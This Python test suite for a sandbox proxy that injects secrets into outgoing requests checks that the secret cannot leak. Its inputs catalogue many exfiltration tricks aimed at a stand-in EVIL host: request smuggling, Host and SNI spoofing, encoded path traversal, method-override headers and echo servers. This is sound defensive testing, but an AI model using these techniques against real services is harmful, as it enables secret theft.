"""A command's proxy puts a secret into requests to its hosts, and neither it nor a server gives the value away."""

from __future__ import annotations

import asyncio
import gc
import gzip
import json
import random
import ssl
import zlib
from base64 import b64decode, b64encode
from contextlib import suppress
from dataclasses import dataclass
from html import escape
from typing import Any
from urllib.parse import quote

import pytest

from tests.support.nightly import at_night
from tests.support.sandbox.secret_hosts import (
    EVIL,
    HOST,
    LIMIT_S,
    MARK,
    VALUE,
    Answer,
    Guarded,
    guarded,
    ok,
    plain,
    request,
)
from tools.sandbox.network.authority import Certificates, draw_authority
from tools.sandbox.network.exchange import Exchange
from tools.sandbox.network.injection import Mask, Origin, forms_of
from tools.sandbox.network.secrets import BoxSecret

pytestmark = pytest.mark.anyio

BEARER = f"Authorization: Bearer {MARK}"
BASIC = b64encode(f"me:{MARK}".encode()).decode()


async def sent(there: Guarded, raw: bytes, to: str = HOST, name: str = "") -> bytes:
    """All that comes back for a request; no connection or none in TLS is no answer."""
    host = f"{to}:{(there.evil if to == EVIL else there.host).port}"
    with suppress(ConnectionError, ssl.SSLError, asyncio.IncompleteReadError):
        return await there.talk(raw.replace(b"{host}", host.encode()), to=to, name=name)
    return b""


@pytest.mark.parametrize(
    ("headers", "arrives"),
    [
        ([BEARER], f"Authorization: Bearer {VALUE}"),
        ([f"Authorization: token {MARK}"], f"Authorization: token {VALUE}"),
        ([f"PRIVATE-TOKEN: {MARK}"], f"PRIVATE-TOKEN: {VALUE}"),
        ([f"X-Two: a {MARK} b {MARK}"], f"X-Two: a {VALUE} b {VALUE}"),
        ([f"Authorization: Basic {BASIC}"], f"Authorization: Basic {b64encode(f'me:{VALUE}'.encode()).decode()}"),
        (
            [f"authorization: basic {b64encode(f'{MARK}:x-oauth'.encode()).decode()}"],
            f"authorization: basic {b64encode(f'{VALUE}:x-oauth'.encode()).decode()}",
        ),
        (["Authorization: Basic !!!"], "Authorization: Basic !!!"),
    ],
)
async def test_a_secret_goes_into_headers(headers: list[str], arrives: str) -> None:
    async with guarded() as there:
        assert (await sent(there, request("/a?b=c", *headers))).endswith(b"here")
        [(head, _)] = there.host.requests
        lines = head.decode().split("\r\n")
        assert lines[:3] == ["GET /a?b=c HTTP/1.1", f"Host: {HOST}:{there.host.port}", "Accept-Encoding: identity"]
        assert arrives in lines and MARK not in head.decode()
        assert there.notes == f"[network: reached {HOST}]"


@dataclass
class Way:
    """A way to get the value out of the host's requests or answers. `status` is the proxy's own answer, if it has one.

    `arrives`: the host gets the value. `note`: the line at the end of the command.
    """

    name: str
    raw: bytes
    answer: Answer = plain
    to: str = HOST
    sni: str = ""
    paths: tuple[str, ...] = ()
    status: int = 0
    arrives: bool = False
    note: str = ""


def echo(head: bytes, body: bytes) -> list[bytes]:
    return ok(head + body)


def echo_by_byte(head: bytes, _: bytes) -> list[bytes]:
    pieces = [b"1\r\n%c\r\n" % byte for byte in head]
    return [b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n", *pieces, b"0\r\n\r\n"]


def echo_until_closed(head: bytes, _: bytes) -> list[bytes]:
    return [b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n", *(bytes([byte]) for byte in head)]


def echo_packed(packing: str, head: bytes) -> list[bytes]:
    packed = gzip.compress(head[:40]) + gzip.compress(head[40:]) if "gzip" in packing else zlib.compress(head)
    return ok(packed, f"Content-Encoding: {packing}")


def echo_in_headers(head: bytes, _: bytes) -> list[bytes]:
    value = next(line for line in head.decode().split("\r\n") if "earer" in line).split("earer ")[1]
    return [
        f"HTTP/1.1 103 {value}\r\nLink: {value}\r\n\r\n".encode(),
        f"HTTP/1.1 302 {value}\r\nLocation: https://{EVIL}/?{value}\r\nX-{quote(value, safe='')}: 1\r\n".encode(),
        f"Set-Cookie: a={quote(value, safe='')}\r\nTransfer-Encoding: chunked\r\nTrailer: X-T\r\n\r\n".encode(),
        f"0\r\nX-T: {value}\r\n\r\n".encode(),
    ]


def echo_escaped(head: bytes, _: bytes) -> list[bytes]:
    text = head.decode()
    in_json = json.dumps(text)
    of_go, of_php = in_json.replace("&", "\\u0026"), in_json.replace("/", "\\/")
    shown = (in_json, of_go, of_php, escape(text), quote(text), quote(text, safe=""), b64encode(head).decode())
    return ok("".join(shown).encode())


def echo_of_range(head: bytes, _: bytes) -> list[bytes]:
    return ok(head[: head.index(VALUE.encode()) + 8] if b"range:" in head.lower() else head)


SMUGGLED = f"GET /x HTTP/1.1\r\nHost: {{host}}\r\n{BEARER}\r\n\r\n"
NARROW = ("GET /repos/**", "POST /repos/*/pulls")
NARROWED = "is for GET /repos/**, POST /repos/*/pulls alone"
WAYS = (
    Way("another host", request("/", BEARER), to=EVIL),
    Way("another host in Host", request("/", BEARER, host=EVIL), status=421),
    Way("the name as part of another", request("/", BEARER, host=f"{HOST}.{EVIL}"), status=421),
    Way("another host in SNI", request("/", BEARER), sni=EVIL, arrives=True),
    Way("two Hosts", request("/", f"Host: {EVIL}", BEARER), status=400),
    Way("a whole URL of another host", request(f"https://{EVIL}/", BEARER), status=400),
    Way("a whole URL of the host", request(f"https://{HOST}/", BEARER), status=400),
    Way("TRACE", request("/", BEARER, method="TRACE"), echo, status=501),
    Way("CONNECT inside", request(f"{EVIL}:443", BEARER, method="CONNECT"), status=501),
    Way("HTTP/2 by prior knowledge", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9), status=505),
    Way("upgrade to WebSocket", request("/", BEARER, "Upgrade: websocket", "Sec-WebSocket-Key: x"), status=501),
    Way("length and chunks", request("/", "Content-Length: 3", "Transfer-Encoding: chunked", BEARER), status=400),
    Way("two lengths", request("/", "Content-Length: 3", "Content-Length: 4", BEARER), status=400),
    Way("other transfer codings", request("/", "Transfer-Encoding: gzip, chunked", BEARER), status=501),
    Way("a space before the colon", request("/", "Transfer-Encoding : chunked", BEARER), status=400),
    Way("a folded header", request("/", "X-A: Bearer", f" {MARK}"), echo, arrives=True),
    Way("a request in a body", request("/", method="POST", body=SMUGGLED), echo),
    Way("a head of 70 KB", request("/", BEARER, f"X-A: {'x' * 70_000}"), status=431),
    Way("in the URL", request(f"/?token={MARK}"), echo),
    Way("in the body", request("/", method="POST", body=MARK), echo),
    Way("in a cookie", request("/", f"Cookie: a={MARK}"), echo),
    Way("in what servers log", request("/", f"User-Agent: {MARK}", f"Referer: https://x/{MARK}"), echo),
    Way("in a header's name", request("/", f"X-{MARK}: 1"), echo),
    Way("in pieces", request("/", f"X-A: {MARK[:9]}", f"X-B: {MARK[9:]}"), echo),
    Way("in capitals", request("/", f"X-A: {MARK.upper()}"), echo),
    Way("in base64 but not basic", request("/", f"Authorization: Bearer {BASIC}"), echo),
    Way("another path", request("/user/keys", BEARER), echo, paths=NARROW, note=NARROWED),
    Way("another method", request("/repos/a", BEARER, method="DELETE"), echo, paths=NARROW, note=NARROWED),
    Way(
        "a method in a header", request("/repos/a", BEARER, "X-HTTP-Method-Override: PUT"), paths=NARROW, note=NARROWED
    ),
    Way("a path in a header", request("/repos/a", BEARER, "X-Original-URL: /user"), paths=NARROW, note=NARROWED),
    Way("a second path", request("/repos/a", BEARER, "Destination: /user", method="MOVE"), paths=("/repos/*",)),
    Way("a path with dots", request("/repos/../user", BEARER), paths=NARROW, note=NARROWED),
    Way("a path with escaped dots", request("/repos/%2e%2E/user", BEARER), paths=NARROW, note=NARROWED),
    Way("a path escaped twice", request("/repos/%252e%252e%252fuser", BEARER), paths=NARROW, note=NARROWED),
    Way("a path with parameters", request("/repos/..;a/user", BEARER), paths=NARROW, note=NARROWED),
    Way("a path of two readings", request("/repos/a%2Fb/pulls", BEARER, method="POST"), paths=NARROW, note=NARROWED),
    Way("the path itself", request("/repos/a/b?q=..", BEARER), echo, paths=NARROW, arrives=True),
    Way("echo in the body", request("/", BEARER), echo, arrives=True),
    Way("echo byte by byte in chunks", request("/", BEARER), echo_by_byte, arrives=True),
    Way("echo until the connection ends", request("/", BEARER), echo_until_closed, arrives=True),
    Way("echo in headers, reason and trailer", request("/", BEARER), echo_in_headers, arrives=True),
    Way("echo in gzip", request("/", BEARER), lambda head, _: echo_packed("gzip", head), arrives=True),
    Way("echo in deflate", request("/", BEARER), lambda head, _: echo_packed("deflate", head), arrives=True),
    Way("echo in brotli", request("/", BEARER), lambda head, _: echo_packed("br", head), status=502, arrives=True),
    Way("echo in broken gzip", request("/", BEARER), lambda *_: ok(b"no", "Content-Encoding: gzip"), arrives=True),
    Way("echo escaped and in base64", request("/", BEARER), echo_escaped, arrives=True),
    Way("echo of basic credentials", request("/", f"Authorization: Basic {BASIC}"), echo, arrives=True),
    Way("a range of the echo", request("/", BEARER, "Range: bytes=0-9"), echo_of_range, arrives=True),
    Way("an answer that is not HTTP", request("/", BEARER), lambda head, _: [head], status=502, arrives=True),
    Way("an endless head", request("/", BEARER), lambda head, _: [head.split()[-1] * 9_000], status=502, arrives=True),
    Way("no answer", request("/", BEARER), lambda *_: [], arrives=True),
)


@pytest.mark.parametrize("way", WAYS, ids=[way.name for way in WAYS])
async def test_no_way_leads_to_the_value(way: Way) -> None:
    async with guarded(way.answer, paths=way.paths) as there:
        if way.sni:  # the certificate is for the tunnel's host, whatever name is asked for
            there.trusted.check_hostname = False
        raw = await sent(there, way.raw, way.to, way.sni)
        for form in (*forms_of(VALUE), VALUE[:12].encode()):
            assert form not in raw, raw
        assert VALUE not in there.notes and VALUE.encode() not in there.evil.received
        decoded = b64decode(raw.partition(b"Basic ")[2].partition(b"\r\n")[0] + b"====")
        assert VALUE[4:-4].encode() not in decoded
        assert (VALUE.encode() in there.host.received or b64encode(f"me:{VALUE}".encode()) in there.host.received) == (
            way.arrives
        ), there.host.received
        if way.status:
            head, _, sentence = raw.partition(b"\r\n\r\n")
            assert head.startswith(b"HTTP/1.1 %d " % way.status) and len(sentence) > 20, raw
        elif way.answer is plain:
            assert raw.endswith(b"here"), raw
        assert way.note in there.notes


async def test_what_a_host_repeats_in_a_form_of_its_own_is_not_masked() -> None:
    """The limit that SECURITY.md names: a command can do at the host what the secret allows."""
    async with guarded(lambda head, _: ok(head[::-1])) as there:
        assert VALUE[::-1].encode() in await sent(there, request("/", BEARER))


async def test_the_ways_are_at_least_thirty() -> None:
    assert len(WAYS) > 30


async def test_a_host_must_prove_its_name_and_resolve_to_what_the_call_may_reach() -> None:
    async with guarded(of=EVIL) as there:
        with pytest.raises(ConnectionError, match=f"{HOST} is not trusted: Hostname mismatch"):
            await there.tunnel()
        assert there.host.requests == []
        assert f"{HOST} was refused: it is not trusted: Hostname mismatch" in there.notes, "no program shows the answer"
    async with guarded() as there:
        with pytest.raises(ConnectionError, match="is not among the hosts allowed for this call"):
            await there.tunnel("other.example", there.host.port)


async def test_another_port_of_the_host_is_a_tunnel_as_before() -> None:
    async with guarded() as there:
        reader, writer = await there.tunnel(HOST, there.evil.port, EVIL)  # with the certificate of the server itself
        writer.write(request("/", BEARER, host=HOST))
        assert (await reader.read()).endswith(b"here") and MARK.encode() in there.evil.received
        writer.close()


async def test_http_is_used_only_where_the_secret_says_so() -> None:
    for scheme, arrives in (("http://", True), ("", False)):
        async with guarded(echo, scheme=scheme) as there:
            url = f"http://{HOST}:{there.host.port}/a"
            answer = await there.proxied.get(url, BEARER)
            assert (VALUE.encode() in there.host.received) == arrives
            assert VALUE.encode() not in answer and (not arrives or b"Bearer " + MARK.encode() in answer)
            if arrives:
                for other in (f"http://{EVIL}:{there.host.port}/", f"http://{HOST}:{there.host.port}@{EVIL}/"):
                    before = len(there.host.requests)
                    await there.proxied.get(other, BEARER)
                    assert all(VALUE.encode() not in head for head, _ in there.host.requests[before:])


async def test_a_connection_serves_many_requests_and_each_is_judged() -> None:
    async with guarded(echo) as there:
        host = f"Host: {HOST}:{there.host.port}"
        reader, writer = await there.tunnel()
        for number in range(3):
            writer.write(f"POST /{number} HTTP/1.1\r\n{host}\r\n{BEARER}\r\nContent-Length: 1\r\n\r\nx".encode())
            head = await reader.readuntil(b"\r\n\r\n")
            size = int(head.partition(b"Content-Length: ")[2].split()[0])
            body = await reader.readexactly(size)
            assert f"/{number} ".encode() in body and MARK.encode() in body
        writer.write(f"GET / HTTP/1.1\r\nHost: {EVIL}\r\n{BEARER}\r\n\r\n".encode())
        assert (await reader.read()).startswith(b"HTTP/1.1 421 ")
        writer.close()
        assert there.host.connections == 1 and len(there.host.requests) == 3


@pytest.mark.parametrize("expects", [False, True])
async def test_bodies_are_streamed_in_both_directions(expects: bool) -> None:
    size = 3 << 20
    half = b"x" * size

    async with guarded(lambda head, body: ok(body)) as there:
        reader, writer = await there.tunnel()
        expect = "Expect: 100-continue\r\n" if expects else ""
        lines = f"POST / HTTP/1.1\r\nHost: {HOST}:{there.host.port}\r\n{BEARER}\r\n{expect}Connection: close\r\n"
        writer.write(f"{lines}Content-Length: {size}\r\n\r\n".encode())
        if expects:
            assert (await reader.readuntil(b"\r\n\r\n")).startswith(b"HTTP/1.1 100 ")
        writer.write(half)
        assert (await reader.read()).endswith(half) and VALUE.encode() in there.host.received
        writer.close()


async def test_a_bomb_is_unpacked_in_pieces() -> None:
    packed = gzip.compress(bytes(64 << 20))
    async with guarded(lambda *_: ok(packed, "Content-Encoding: gzip")) as there:
        reader, writer = await there.tunnel()
        writer.write(request("/", BEARER, host=f"{HOST}:{there.host.port}"))
        await reader.readuntil(b"\r\n\r\n")
        received = 0
        async with asyncio.timeout(60):
            while block := await reader.read(1 << 16):
                received += len(block)
        assert received >= 64 << 20
        writer.close()


async def test_what_the_host_sends_is_passed_on_at_once() -> None:
    async with guarded() as there:
        go = asyncio.Event()

        async def two(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            await reader.readuntil(b"\r\n\r\n")
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\ndata: 1\n\n")
            await go.wait()
            writer.close()

        there.host.instead = two
        reader, writer = await there.tunnel()
        writer.write(request("/", BEARER, host=f"{HOST}:{there.host.port}"))
        async with asyncio.timeout(30):
            await reader.readuntil(b"data: 1\n\n")
        go.set()
        await reader.read()
        writer.close()


class Closing:
    """The writer to a host that has answered at the head of a request, and takes no more."""

    def __init__(self, answers: asyncio.StreamReader) -> None:
        self.answers, self.written = answers, b""

    def write(self, data: bytes) -> None:
        self.written += data

    async def drain(self) -> None:
        if not self.written.endswith(b"\r\n\r\n"):
            raise ConnectionResetError
        self.answers.feed_data(b"HTTP/1.1 413 Too Large\r\nContent-Length: 3\r\n\r\nbig")


class Taking(Closing):
    """The writer to a program."""

    async def drain(self) -> None:
        pass

    def close(self) -> None:
        pass


async def test_what_a_host_answers_before_it_closes_reaches_the_program_that_still_sends() -> None:
    asked, answers = asyncio.StreamReader(), asyncio.StreamReader()
    asked.feed_data(b"POST / HTTP/1.1\r\nHost: a.example\r\nContent-Length: 9\r\n\r\nabc")
    program: Any = Taking(asked)
    host: Any = Closing(answers)
    secrets = (BoxSecret(name="a", variable="A", placeholder=MARK, value=VALUE, hosts=()),)
    exchange = Exchange(Origin("https", "a.example", 443), secrets, Mask(secrets), print)
    async with asyncio.timeout(LIMIT_S):
        await exchange((asked, program), (answers, host))
    assert program.written.endswith(b"\r\n\r\nbig")


async def test_a_client_that_leaves_ends_the_hosts_connection() -> None:
    ended = asyncio.Event()
    async with guarded() as there:

        async def hold(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            await reader.readuntil(b"\r\n\r\n")
            await reader.read()
            ended.set()
            writer.close()

        there.host.instead = hold
        _, writer = await there.tunnel()
        writer.write(f"POST / HTTP/1.1\r\nHost: {HOST}:{there.host.port}\r\nContent-Length: 9\r\n\r\nx".encode())
        await writer.drain()
        writer.close()
        async with asyncio.timeout(30):
            await ended.wait()


async def test_a_connection_whose_client_has_left_is_not_forgotten() -> None:
    """asyncio keeps only weak references to tasks, and to readers."""
    problems: list[str] = []
    asyncio.get_running_loop().set_exception_handler(lambda _, context: problems.append(context["message"]))
    asked, go, ended = asyncio.Event(), asyncio.Event(), asyncio.Event()
    async with guarded() as there:

        async def hold(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            await reader.readuntil(b"\r\n\r\n")
            asked.set()
            await go.wait()
            writer.write(b"".join(ok(b"late")))
            await reader.read()
            ended.set()
            writer.close()

        there.host.instead = hold
        _, writer = await there.tunnel()
        writer.write(request("/", BEARER, host=f"{HOST}:{there.host.port}"))
        async with asyncio.timeout(30):
            await asked.wait()
            writer.close()
            await writer.wait_closed()
            for _ in range(30):
                await asyncio.sleep(0)
                gc.collect()
            go.set()
            await ended.wait()
    assert problems == []


def _broken(chance: random.Random, whole: bytes) -> bytes:
    """A request in which some bytes are missing, changed, repeated or others."""
    raw = bytearray(whole)
    others = (b"\r\n", b"\n", b"\0", MARK.encode(), b": ", b"Host: x\r\n", b"Content-Length: 3\r\n", b"\xff")
    for _ in range(chance.randint(1, 6)):
        at = chance.randrange(len(raw))
        match chance.randrange(4):
            case 0:
                del raw[at : at + chance.randint(1, 9)]
            case 1:
                raw[at:at] = chance.choice(others)
            case 2:
                raw[at] ^= 1 << chance.randrange(8)
            case _:
                raw[at:at] = raw[: chance.randrange(len(raw))]
    return bytes(raw)


async def test_broken_requests_arrive_whole_or_not_at_all() -> None:
    chance = random.Random(7)
    async with guarded(echo) as there:
        host = f"{HOST}:{there.host.port}"
        chunked = request("/a", BEARER, "Transfer-Encoding: chunked", method="POST", host=host)
        wholes = (chunked + b"5\r\nhello\r\n0\r\n\r\n", request("/a", BEARER, method="POST", body="hello", host=host))
        for _ in range(at_night(1500, 100)):
            raw = _broken(chance, chance.choice(wholes))
            reader, writer = await there.tunnel()
            writer.write(raw)
            answer = b""
            with suppress(OSError, TimeoutError):
                async with asyncio.timeout(0.1):  # some of them are not finished
                    answer = await reader.read()
            writer.close()
            assert VALUE.encode() not in answer, raw
        for head, body in there.host.requests:
            first, second, *headers = head.split(b"\r\n")
            assert second == f"Host: {host}".encode() and not any(one.lower().startswith(b"host:") for one in headers)
            assert VALUE.encode() not in first + body, head


async def test_a_value_that_fits_no_header_is_named_in_no_sentence() -> None:
    for value in ("line\nbreak-0123456789", "nul\0-0123456789"):
        async with guarded(value=value) as there:
            raw = await sent(there, request("/", BEARER))
            assert raw.startswith(b"HTTP/1.1 400 ") and b"0123456789" not in raw and there.host.requests == []


async def test_a_program_that_trusts_no_certificate_but_its_own_is_told_about_at_the_end() -> None:
    async with guarded() as there:
        there.trusted = ssl.create_default_context()
        assert await sent(there, request("/", BEARER)) == b""
        async with asyncio.timeout(30):
            for _ in range(1_000):  # the proxy may see it a moment later
                if "did not accept" in there.notes:
                    break
                await asyncio.sleep(0)
        assert f"a program did not accept the sandbox's certificate for {HOST}" in there.notes


def test_certificates_for_hosts_without_end_are_not_all_kept() -> None:
    certificates = Certificates(draw_authority()[1])
    for number in range(120):
        certificates.context(f"h{number}.example")
    assert len(certificates._contexts) < 110


def test_a_mask_finds_values_whatever_the_pieces() -> None:
    secrets = [
        BoxSecret(name="a", variable="A", placeholder="phA", value="abcabd-0123", hosts=()),
        BoxSecret(name="b", variable="B", placeholder="phB", value="abd-0123zz-9", hosts=()),
    ]
    text = b"xabcabd-0123zz-9 abcabcabd-0123 abd-0123zz abd-0123zz-9ab"
    whole = Mask(secrets).whole(text)
    assert len(whole) == len(text) and b"abcabd-0123" not in whole and b"abd-0123zz-9" not in whole
    for size in range(1, len(text) + 1):
        mask = Mask(secrets)
        pieces = [mask.feed(text[start : start + size]) for start in range(0, len(text), size)]
        assert b"".join([*pieces, mask.flush()]) == whole
